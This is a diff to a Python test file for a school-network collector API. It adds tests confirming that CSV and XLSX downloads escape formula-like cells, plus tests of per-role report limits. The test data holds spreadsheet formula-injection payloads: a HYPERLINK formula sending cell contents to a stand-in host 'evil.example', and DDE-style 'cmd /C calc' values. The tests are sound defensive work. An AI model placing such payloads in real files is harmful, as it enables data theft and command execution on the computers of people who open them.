@@ -13,9 +13,12 @@ from fastapi.testclient import TestClient
 from schoolnet_collector.api.auth import get_clock
 from schoolnet_collector.app import create_app
 from schoolnet_collector.core.config import load_settings
+from schoolnet_collector.registry.equipment import import_equipment
+from schoolnet_collector.registry.schools import import_schools
 from schoolnet_collector.runtime import Runtime
 from tests.support.collector import bearer, make_token
 from tests.support.planning import NOW, build_province
+from tests.support.web import post_form
 
 
 @pytest.fixture()
@@ -41,8 +44,9 @@ def client(runtime):
         yield c
 
 
-def get(client, runtime, path, token_scope="province", **params):
-    return client.get(path, params=params, headers=bearer(make_token(runtime, scope=token_scope)))
+def get(client, runtime, path, token_scope="province", role="viewer", **params):
+    token = make_token(runtime, scope=token_scope, role=role)
+    return client.get(path, params=params, headers=bearer(token))
 
 
 def test_readiness_json_with_targets_and_gaps(client, runtime):
@@ -143,3 +147,139 @@ def test_influxdb_down_is_503_naming_it(tmp_path, influxdb, influx_db_name):
         assert r.status_code == 503 and "InfluxDB unavailable" in r.text
     finally:
         rt.close()
+
+
+HOSTILE = {  # what a school file or an equipment file may hold, and a spreadsheet would run
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "district_name": "+cmd|' /C calc'!A0",
+    "room": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "other": "-2+3",
+}
+
+
+def hostile_registry(tmp_path, runtime) -> None:
+    """p-fibre's school file and equipment rows rewritten with formula-like text, imported the
+    way the Sở's files are."""
+    schools, equipment = tmp_path / "hostile-schools.csv", tmp_path / "hostile-equipment.csv"
+    with schools.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows(
+            [
+                ["id", "name", "province", "district", "level", "district_name"],
+                ["p-fibre", HOSTILE["name"], "lao-cai", "d-one", "thcs", HOSTILE["district_name"]],
+                [
+                    "p-3g",
+                    HOSTILE["other"],
+                    "lao-cai",
+                    "d-one",
+                    "tieu_hoc",
+                    HOSTILE["district_name"],
+                ],
+            ]
+        )
+    with equipment.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows(
+            [
+                ["school", "device", "kind", "purchase_year", "room"],
+                ["p-fibre", "admin-pc01", "admin_pc", "2016", HOSTILE["room"]],
+                ["p-fibre", "admin-pc03", "admin_pc", "2012", "-1+1"],
+            ]
+        )
+    with runtime.sessions() as session:
+        assert not import_schools(session, schools).errors
+        assert not import_equipment(session, equipment).errors
+
+
+def test_formula_like_text_reaches_the_spreadsheets_as_text(client, runtime, tmp_path):
+    """OWASP's rule on the downloads: a cell starting with = + - @ tab or CR is text (CSV: an
+    apostrophe first; XLSX: a string cell with the quote prefix); numbers stay numbers."""
+    hostile_registry(tmp_path, runtime)
+    r = get(
+        client,
+        runtime,
+        "/api/v1/readiness",
+        period="2d",
+        format="csv",
+        lang="en",
+        scope="district:d-one",
+    )
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + HOSTILE["district_name"] in cells, rows[:3]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    values = [row[rows[0].index("Value")] for row in rows[1:]]
+    assert all(v == "" or float(v) >= 0 for v in values)  # figures as figures, no apostrophe
+
+    for path in ("/api/v1/readiness", "/api/v1/procurement"):
+        r = get(client, runtime, path, period="2d", format="xlsx", as_of=2026)
+        assert r.status_code == 200, r.text
+        book = openpyxl.load_workbook(io.BytesIO(r.content))
+        seen = set()
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
+                        assert cell.data_type == "s" and cell.quotePrefix, (path, cell.value)
+                        seen.add(cell.value)
+                    if isinstance(cell.value, int | float):
+                        assert cell.data_type == "n"
+        assert {HOSTILE["name"], HOSTILE["other"], HOSTILE["district_name"]} <= seen, (path, seen)
+    assert {HOSTILE["room"], "-1+1"} <= seen  # the devices to replace, with their rooms
+
+
+# --- how much one request may ask of InfluxDB, by role --------------------------------------
+@pytest.fixture()
+def limited(tmp_path, influxdb, influx_db_name):
+    """The hand-made province (4 schools) with a viewer allowed 10 school-days at most."""
+    _, _, engine = build_province(tmp_path, influxdb, influx_db_name)
+    engine.dispose()
+    rt = Runtime.open(
+        load_settings(
+            None,
+            influx={"url": influxdb.url, "database": influx_db_name},
+            registry={"url": f"sqlite:///{tmp_path}/registry.sqlite3"},
+            api={"report_limits": {"viewer": {"period_days": 31, "school_days": 10}}},
+        )
+    )
+    app = create_app(rt)
+    app.dependency_overrides[get_clock] = lambda: lambda: NOW
+    with TestClient(app) as c:
+        yield c, rt
+    rt.close()
+
+
+@pytest.mark.parametrize("path", ["/api/v1/readiness", "/api/v1/procurement"])
+def test_a_viewer_asking_for_400_days_is_told_the_limit(client, runtime, path):
+    r = get(client, runtime, path, period="400d")
+    assert r.status_code == 400, r.text
+    assert "400 days is longer than a viewer token may ask for (at most 31d)" in r.json()["detail"]
+    assert get(client, runtime, path, period="31d").status_code == 200
+    assert get(client, runtime, path, period="92d", role="operator").status_code == 200
+    assert get(client, runtime, path, period="93d", role="operator").status_code == 400
+    assert get(client, runtime, path, period="400d", role="admin").status_code == 200
+
+
+def test_a_viewer_asking_for_too_many_school_days_is_told_to_narrow_it(limited):
+    client, rt = limited
+    r = get(client, rt, "/api/v1/readiness", period="3d", format="xlsx")  # 4 schools x 3 days
+    assert r.status_code == 400, r.text
+    detail = r.json()["detail"]
+    assert "12 school-days" in detail and "at most 10" in detail and "district" in detail
+    assert get(client, rt, "/api/v1/readiness", period="2d").status_code == 200  # 8
+    narrower = get(client, rt, "/api/v1/procurement", period="3d", scope="district:d-one")
+    assert narrower.status_code == 200, narrower.text  # 2 schools x 3 days
+    assert get(client, rt, "/api/v1/procurement", period="3d", role="operator").status_code == 200
+
+
+def test_the_plan_page_says_the_limit_in_the_pages_language(limited):
+    """The page reads the same 30 days as the API's default: 120 school-days here."""
+    client, rt = limited
+    client.cookies.clear()
+    signed_in = post_form(
+        client, "/login", {"token": make_token(rt), "next": "/plan"}, follow_redirects=False
+    )
+    assert signed_in.status_code == 303, signed_in.text
+    page = client.get("/plan")
+    assert page.status_code == 400 and "Báo cáo này gồm nhiều trường" in page.text, page.text
+    assert "more schools and days" in client.get("/plan?lang=en").text
+    client.cookies.clear()
